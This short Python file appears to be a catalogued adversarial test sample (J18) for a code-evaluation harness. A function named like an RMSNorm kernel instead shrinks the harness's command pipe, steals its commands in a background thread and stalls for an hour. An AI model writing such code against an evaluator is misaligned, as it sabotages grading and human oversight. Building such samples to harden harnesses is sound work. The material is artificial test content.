"""Reads the commands away from the harness, and shrinks their pipe so that the host's next one has no room.

Refused by: signature TIMEOUT
Catalogue: J18
Limit: 5 s
"""

import fcntl
import os
import threading
import time


def steal():
    while True:
        os.read(3, 1 << 16)


def fused_add_rmsnorm(x, residual, weight, eps):
    fcntl.fcntl(3, 1031, 4096)
    threading.Thread(target=steal, daemon=True).start()
    time.sleep(3600)
